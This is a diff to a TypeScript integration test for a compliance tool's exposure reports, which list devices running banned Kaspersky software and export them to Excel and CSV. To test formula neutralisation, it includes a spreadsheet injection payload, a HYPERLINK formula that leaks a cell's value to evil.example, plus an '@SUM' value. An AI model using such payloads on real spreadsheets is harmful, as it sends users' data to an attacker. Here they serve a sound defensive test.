@@ -4,32 +4,36 @@ import { join } from 'node:path';
 import type { Readable } from 'node:stream';
 import { parse } from 'csv-parse/sync';
 import * as XLSX from 'xlsx';
+import { CatalogService, loadCatalog } from '@interdict/catalog';
 import { loadConfig, type Config } from '@interdict/config';
+import {
+  ExposureQueryService,
+  ExposureService,
+  SnapshotService,
+  SoftwareMatchingService,
+} from '@interdict/exposure';
 import { createTestDatabase, type TestDatabase } from '../../../../test/support/test-database';
 import { streamExposedDevices } from '../data/report-queries';
 import { ReportSnapshot } from '../data/report-snapshot';
-import { staticRuleDirectory } from '../rule-directory';
+import { catalogRuleDirectory } from '../rule-directory';
 import { ReportScheduleService } from '../schedules/report-schedule.service';
 import { LocalDiskReportStorage } from '../storage/local-disk-report-storage';
 import type { ReportStorage } from '../storage/report-storage';
-import { newDevice, newException, newFinding, newSoftware, newSource } from '../testing/report-factories';
+import {
+  newDevice,
+  newException,
+  newInstallation,
+  newSoftware,
+  newSource,
+  removeInstallation,
+} from '../testing/report-factories';
 import { ReportRetention } from './report-retention';
 import { ReportRunner } from './report-runner';
 import { ReportService } from './report.service';
 import type { Requester } from './report-views';
 
 const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
-const RULE_URL = 'https://www.federalregister.gov/documents/2024/06/24/2024-13532/kaspersky';
-const rules = staticRuleDirectory(
-  {
-    'us-bis-kaspersky-2024': {
-      title: 'Kaspersky final determination',
-      citation: '89 FR 52434',
-      sourceUrl: RULE_URL,
-    },
-  },
-  { kaspersky: 'Kaspersky (all products)' },
-);
+const RULE_URL = 'https://regulations.justia.com/regulations/fedreg/2024/06/24/2024-13532.html';
 const analyst: Requester = { type: 'api_key', id: 'k1', name: 'analyst-key' };
 const DAY = 86_400_000;
 
@@ -41,10 +45,18 @@ describe('ReportRunner (real Postgres, files read back with SheetJS and csv-pars
   let service: ReportService;
   let runner: ReportRunner;
   let schedules: ReportScheduleService;
+  let catalog: CatalogService;
+  let exposure: ExposureService;
   const ids: Record<string, string> = {};
 
   const makeRunner = (s: ReportStorage) =>
-    new ReportRunner(db.dataSource, config, s, rules, new ReportRetention(db.dataSource, config, s));
+    new ReportRunner(
+      db.dataSource,
+      config,
+      s,
+      catalogRuleDirectory(catalog),
+      new ReportRetention(db.dataSource, config, s),
+    );
 
   beforeAll(async () => {
     db = await createTestDatabase();
@@ -53,6 +65,16 @@ describe('ReportRunner (real Postgres, files read back with SheetJS and csv-pars
       env: { NODE_ENV: 'test', INTERDICT_ORG_NAME: 'Société Exemple', INTERDICT_DATA_DIR: dir },
       configDir: mkdtempSync(join(tmpdir(), 'interdict-noconfig-')),
     });
+    // The shipped catalog under the default profile: a private US business, bound by the Commerce ban.
+    catalog = new CatalogService(
+      loadCatalog({ dir: join(__dirname, '..', '..', '..', '..', 'config', 'catalog') }),
+      config.policy,
+    );
+    exposure = new ExposureService(
+      db.dataSource,
+      catalog,
+      new SoftwareMatchingService(db.dataSource, catalog),
+    );
     storage = new LocalDiskReportStorage(join(dir, 'reports'));
     service = new ReportService(db.dataSource, storage);
     runner = makeRunner(storage);
@@ -67,7 +89,8 @@ describe('ReportRunner (real Postgres, files read back with SheetJS and csv-pars
          ($1, 'failed', now() - interval '1 hour', now() - interval '50 minutes')`,
       [intune],
     );
-    // One Mac seen by both MDMs: one row per finding, both sources listed, the hostile name from the latest check-in.
+    // One Mac seen by both MDMs, each with its own spelling: one exposure, both sources listed, the hostile name of
+    // the record seen last.
     ids.macIntune = await newDevice(ds, {
       sourceId: intune,
       physicalKey: 'serial:C02XYZ',
@@ -83,6 +106,7 @@ describe('ReportRunner (real Postgres, files read back with SheetJS and csv-pars
       name: 'old-jamf-name',
       platform: 'macos',
       lastCheckInAt: new Date(Date.now() - 5 * 3600_000),
+      lastSeenAt: new Date(Date.now() - 5 * 3600_000),
     });
     ids.pc = await newDevice(ds, {
       sourceId: intune,
@@ -103,52 +127,48 @@ describe('ReportRunner (real Postgres, files read back with SheetJS and csv-pars
       appsReported: false,
     });
 
-    const kasMac = await newSoftware(ds, {
-      name: 'Kaspersky Internet Security',
+    const kisIntune = await newSoftware(ds, { name: 'Kaspersky Internet Security', platform: 'macos' });
+    const kisJamf = await newSoftware(ds, {
+      name: 'Kaspersky Internet Security.app',
       platform: 'macos',
       bundleId: 'com.kaspersky.kis',
     });
-    const kasWin = await newSoftware(ds, {
-      name: '+Kaspersky Endpoint Security',
+    const kes = await newSoftware(ds, {
+      name: 'Kaspersky Endpoint Security for Windows',
       publisher: 'AO Kaspersky Lab',
     });
-    const due = new Date(Date.now() - 5.5 * DAY);
-    await newFinding(ds, {
-      deviceId: ids.macIntune,
-      softwareId: kasMac,
-      dueAt: due,
-      matcherId: 'kaspersky-macos-bundle',
+    // The Mac has run it for 35.5 days: the Commerce ban's 30-day window passed 5.5 days ago.
+    const macFirstSeen = new Date(Date.now() - 35.5 * DAY);
+    await newInstallation(ds, { deviceId: ids.macIntune, softwareId: kisIntune, firstSeenAt: macFirstSeen });
+    await newInstallation(ds, { deviceId: ids.macJamf, softwareId: kisJamf, firstSeenAt: macFirstSeen });
+    await newInstallation(ds, {
+      deviceId: ids.pc,
+      softwareId: kes,
+      firstSeenAt: new Date(Date.now() - 10 * DAY),
     });
-    await newFinding(ds, {
-      deviceId: ids.macJamf,
-      softwareId: kasMac,
-      dueAt: due,
-      matcherId: 'kaspersky-macos-bundle',
-    });
-    await newFinding(ds, { deviceId: ids.pc, softwareId: kasWin });
     ids.exception = await newException(ds, {
-      productId: 'kaspersky',
+      productId: 'kaspersky-endpoint-security',
       scopeValue: 'LAB1',
       expiresAt: new Date(Date.now() + 30 * DAY),
       reason: '@SUM(1+1) lab machine',
     });
     await newException(ds, {
-      ruleId: 'us-bis-kaspersky-2024',
+      ruleId: 'US-BIS-FD',
       scopeValue: 'OLD',
       expiresAt: new Date(Date.now() - DAY),
     });
     const lab = await newDevice(ds, { sourceId: intune, name: 'lab-1', serial: 'LAB1' });
-    await newFinding(ds, {
-      deviceId: lab,
-      softwareId: kasWin,
-      status: 'excepted',
-      exceptionId: ids.exception,
-    });
-    await newFinding(ds, { deviceId: ids.stale, softwareId: kasWin, status: 'resolved' });
+    await newInstallation(ds, { deviceId: lab, softwareId: kes });
+    await newInstallation(ds, { deviceId: ids.stale, softwareId: kes });
+    await exposure.recompute();
+    await removeInstallation(ds, ids.stale, kes);
+    await exposure.recompute();
+    // Five days of trend: the totals row of each day, and detail rows the Summary must not add to it.
     await ds.query(
       `INSERT INTO exposure_snapshot (day, rule_id, product_id, platform, open_count, overdue_count, excepted_count)
-       SELECT (now() AT TIME ZONE 'UTC')::date - n, 'us-bis-kaspersky-2024', 'kaspersky', 'macos', 10 - n, n, 1
-       FROM generate_series(0, 4) n`,
+       SELECT (now() AT TIME ZONE 'UTC')::date - n, k.rule_id, k.product_id, k.platform, 10 - n, n, 1
+         FROM generate_series(1, 5) n,
+              (VALUES ('*', '*', '*'), ('US-BIS-FD', '*', '*'), ('*', 'kaspersky-consumer', 'macos')) k(rule_id, product_id, platform)`,
     );
   });
 
@@ -167,14 +187,22 @@ describe('ReportRunner (real Postgres, files read back with SheetJS and csv-pars
     return { report: done!, download, bytes: Buffer.concat(chunks) };
   }
 
-  it('writes the exposure workbook with five sheets, real dates and numbers, deduplicated devices and a neutralised hostile name', async () => {
+  it('writes the exposure workbook: one row per exposure, its evidence, the rules, real dates and numbers, a neutralised hostile name', async () => {
     const { report, download, bytes } = await runOne('exposure', 'xlsx');
     expect(download.fileName).toMatch(/^Societe-Exemple_exposure_\d{4}-\d{2}-\d{2}_\d{4}Z\.xlsx$/);
     expect(bytes.length).toBe(download.sizeBytes);
     expect(report.rowCount).toBe(2);
 
     const wb = XLSX.read(bytes, { cellDates: true });
-    expect(wb.SheetNames).toEqual(['Summary', 'Exposed devices', 'Software', 'Coverage', 'Exceptions']);
+    expect(wb.SheetNames).toEqual([
+      'Summary',
+      'Exposed devices',
+      'Evidence',
+      'Rules',
+      'Software',
+      'Coverage',
+      'Exceptions',
+    ]);
 
     const exposed = wb.Sheets['Exposed devices'];
     const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(exposed, { defval: null });
@@ -191,19 +219,22 @@ describe('ReportRunner (real Postgres, files read back with SheetJS and csv-pars
     ]);
     expect(exposed['!autofilter']).toBeDefined();
 
+    // The Mac: one exposure for both records and both spellings, under every rule that applies to it.
     const mac = rows.find((r) => r.Serial === 'C02XYZ')!;
     expect(mac.Device).toBe(`'${HOSTILE}`);
     expect(mac['Source(s)']).toBe('Contoso Intune, Contoso Jamf');
-    expect(mac.Product).toBe('Kaspersky (all products)');
-    expect(mac['Rule citation']).toBe('89 FR 52434');
+    expect(mac.Titles).toBe('Kaspersky Internet Security, Kaspersky Internet Security.app');
+    expect(mac.Product).toBe(catalog.productById('kaspersky-consumer')!.name);
+    expect(mac.Standing).toBe('binding');
+    expect(String(mac.Rules)).toContain('US-BIS-FD');
+    expect(String(mac['Rule citations'])).toContain('89 FR 52434');
     expect(mac['Days overdue']).toBe(5);
     expect(mac['Due (UTC)']).toBeInstanceOf(Date);
-    expect(mac['First detected (UTC)']).toEqual(new Date('2026-10-01T08:00:00Z'));
     const pc = rows.find((r) => r.Serial === 'PC1')!;
-    expect(pc.Title).toBe("'+Kaspersky Endpoint Security");
+    expect(pc.Titles).toBe('Kaspersky Endpoint Security for Windows');
     expect(pc['Days overdue']).toBe(0);
 
-    // Types of the cells themselves: no formula anywhere, dates are dates, counts are numbers, the citation links out.
+    // Types of the cells themselves: no formula anywhere, dates are dates, counts are numbers.
     for (const cell of Object.values(exposed).filter((c) => typeof c === 'object' && c && 't' in c)) {
       expect((cell as XLSX.CellObject).f).toBeUndefined();
     }
@@ -211,11 +242,39 @@ describe('ReportRunner (real Postgres, files read back with SheetJS and csv-pars
     const col = (name: string) => XLSX.utils.encode_col(header.indexOf(name));
     expect(exposed[`${col('Due (UTC)')}${macRow}`].t).toBe('d');
     expect(exposed[`${col('Days overdue')}${macRow}`].t).toBe('n');
-    expect(exposed[`${col('Rule citation')}${macRow}`].l?.Target).toBe(RULE_URL);
+
+    // Evidence: both records of the Mac, each with its own title; the stale laptop's resolved exposure is not
+    // selected (status open by default).
+    const evidence = XLSX.utils.sheet_to_json<Record<string, unknown>>(wb.Sheets.Evidence, { defval: null });
+    expect(
+      evidence.filter((e) => e.Serial === 'C02XYZ').map((e) => [e.Source, e.Title, e['Bundle / package id']]),
+    ).toEqual([
+      ['Contoso Intune', 'Kaspersky Internet Security', null],
+      ['Contoso Jamf', 'Kaspersky Internet Security.app', 'com.kaspersky.kis'],
+    ]);
+    expect(evidence).toHaveLength(3);
+
+    // Rules: every catalog rule with its standing here; the Commerce ban applies to the 3 exposed devices.
+    const ruleRows = XLSX.utils.sheet_to_json<Record<string, unknown>>(wb.Sheets.Rules, { defval: null });
+    expect(ruleRows).toHaveLength(catalog.rules().length);
+    expect(ruleRows.find((r) => r.Rule === 'US-BIS-FD')).toMatchObject({
+      Standing: 'binding',
+      Why: 'binds everyone in US',
+      'Exposed devices': 2,
+      Excepted: 1,
+    });
+    expect(ruleRows.find((r) => r.Rule === 'DE-BSI-2022')).toMatchObject({
+      Standing: 'off',
+      'Exposed devices': 0,
+    });
+    const bis = XLSX.utils
+      .sheet_to_json<string[]>(wb.Sheets.Rules, { header: 1 })
+      .findIndex((r) => r[0] === 'US-BIS-FD');
+    expect(wb.Sheets.Rules[`C${bis + 1}`].l?.Target).toBe(RULE_URL);
 
     const software = XLSX.utils.sheet_to_json<Record<string, unknown>>(wb.Sheets.Software);
-    expect(software).toHaveLength(2);
-    expect(software.find((s) => s.Platform === 'macos')).toMatchObject({
+    expect(software).toHaveLength(3);
+    expect(software.find((s) => s.Title === 'Kaspersky Internet Security.app')).toMatchObject({
       'Devices (open)': 1,
       'Devices overdue': 1,
     });
@@ -234,7 +293,7 @@ describe('ReportRunner (real Postgres, files read back with SheetJS and csv-pars
     const exceptions = XLSX.utils.sheet_to_json<Record<string, unknown>>(wb.Sheets.Exceptions, {
       defval: null,
     });
-    expect(exceptions.map((e) => [e.State, e['Scope value'], e['Findings suppressed']])).toEqual([
+    expect(exceptions.map((e) => [e.State, e['Scope value'], e['Exposures excepted']])).toEqual([
       ['active', 'LAB1', 1],
       ['expired', 'OLD', 0],
     ]);
@@ -244,18 +303,68 @@ describe('ReportRunner (real Postgres, files read back with SheetJS and csv-pars
     const summary = XLSX.utils.sheet_to_json<unknown[]>(wb.Sheets.Summary, { header: 1, defval: null });
     const valueOf = (label: string) => summary.find((r) => r[0] === label)?.[1];
     expect(valueOf('As of (UTC)')).toBeInstanceOf(Date);
+    expect(valueOf('Organisation profile')).toContain('jurisdictions US');
+    expect(valueOf('Catalog version')).toBe(catalog.version);
     expect(valueOf('Exposed devices')).toBe(2);
-    expect(valueOf('Open findings')).toBe(2);
-    expect(valueOf('Overdue findings')).toBe(1);
-    expect(valueOf('Excepted findings')).toBe(1);
+    expect(valueOf('Exposures (open)')).toBe(2);
+    expect(valueOf('Overdue exposures')).toBe(1);
+    expect(valueOf('Excepted exposures')).toBe(1);
     expect(valueOf('Devices covered')).toBe(5);
     expect(valueOf('Coverage gaps (device records)')).toBe(2);
     const intuneRow = summary.find((r) => r[0] === 'Contoso Intune')!;
     expect(intuneRow[2]).toBeInstanceOf(Date); // last successful sync, not the later failed one
     expect(intuneRow[3]).toBe('failed');
+    // The trend reads the totals row of each day only (never totals + detail rows).
     const trendStart = summary.findIndex((r) => r[0] === 'Day');
-    expect(summary.slice(trendStart + 1, trendStart + 6).map((r) => r[1])).toEqual([6, 7, 8, 9, 10]);
+    expect(summary.slice(trendStart + 1, trendStart + 6).map((r) => r[1])).toEqual([5, 6, 7, 8, 9]);
     expect(summary[trendStart + 5][0]).toBeInstanceOf(Date);
+  });
+
+  it('shows on the Summary exactly the figures the API gives for the same data', async () => {
+    const now = new Date();
+    await new SnapshotService(db.dataSource, config).takeSnapshot(now);
+    const api = new ExposureQueryService(db.dataSource, catalog, config);
+    const [s, trend] = await Promise.all([api.summary({}, now), api.trend(30, now)]);
+    const { bytes } = await runOne('exposure', 'xlsx');
+    const summary = XLSX.utils.sheet_to_json<unknown[]>(
+      XLSX.read(bytes, { cellDates: true }).Sheets.Summary,
+      {
+        header: 1,
+        defval: null,
+      },
+    );
+    const valueOf = (label: string) => summary.find((r) => r[0] === label)?.[1];
+    expect({
+      exposedDevices: valueOf('Exposed devices'),
+      exposures: valueOf('Exposures (open)'),
+      overdueExposures: valueOf('Overdue exposures'),
+      overdueDevices: valueOf('Overdue devices'),
+      reviewExposures: valueOf('Exposures for review (no binding rule)'),
+      exceptedExposures: valueOf('Excepted exposures'),
+    }).toEqual(s.totals);
+    const today = summary.find(
+      (r) => r[0] instanceof Date && (r[0] as Date).toISOString().slice(0, 10) === trend.at(-1)!.day,
+    )!;
+    expect(today.slice(1, 7)).toEqual([
+      trend.at(-1)!.open,
+      trend.at(-1)!.overdue,
+      trend.at(-1)!.excepted,
+      trend.at(-1)!.new,
+      trend.at(-1)!.resolved,
+      trend.at(-1)!.exposedDevices,
+    ]);
+    const byRule = summary.filter((r) => typeof r[0] === 'string' && s.byRule.some((x) => x.ruleId === r[0]));
+    for (const r of s.byRule) {
+      const row = byRule.find((x) => x[0] === r.ruleId)!;
+      expect([row[1], row[3], row[4], row[5], row[6]]).toEqual([
+        r.standing,
+        r.exposedDevices,
+        r.exposures,
+        r.overdueExposures,
+        r.exceptedExposures,
+      ]);
+    }
+    await db.dataSource.query(`DELETE FROM exposure_snapshot WHERE day = (now() AT TIME ZONE 'UTC')::date`);
   });
 
   it('announces report.ready in the outbox with the finished report', async () => {
@@ -268,7 +377,7 @@ describe('ReportRunner (real Postgres, files read back with SheetJS and csv-pars
       reportId: report.id,
       type: 'software',
       format: 'xlsx',
-      rowCount: 2,
+      rowCount: 3,
     });
     expect(event.payload.sizeBytes).toBe(report.sizeBytes);
   });
@@ -285,7 +394,7 @@ describe('ReportRunner (real Postgres, files read back with SheetJS and csv-pars
     expect(mac['Days overdue']).toBe('5');
   });
 
-  it('applies filters: platform and finding status', async () => {
+  it('applies filters: platform, exposure status, group and source', async () => {
     const mac = await runOne('exposed-devices', 'csv', { platform: ['macos'] });
     expect(parse(mac.bytes, { bom: true, columns: true })).toHaveLength(1);
     const excepted = await runOne('exposed-devices', 'csv', { status: ['excepted'] });
@@ -345,19 +454,15 @@ describe('ReportRunner (real Postgres, files read back with SheetJS and csv-pars
         sourceId: (await db.dataSource.query(`SELECT id FROM source LIMIT 1`))[0].id,
         platform: 'ios',
       });
-      await newFinding(db.dataSource, {
-        deviceId: phone,
-        softwareId: sw,
-        productId: 'tiktok',
-        ruleId: 'tiktok-rule',
-      });
+      await newInstallation(db.dataSource, { deviceId: phone, softwareId: sw, version: '37.0' });
+      await exposure.recompute();
+      expect(await db.count('exposure')).toBe(5);
       const seen: unknown[] = [];
       for await (const r of streamExposedDevices(snap, {})) seen.push(r);
       expect(seen).toHaveLength(2);
     } finally {
       await snap.close();
     }
-    await db.dataSource.query(`DELETE FROM finding WHERE product_id = 'tiktok'`);
   });
 
   it('runs a schedule once per tick across workers and keeps only keepCount files', async () => {
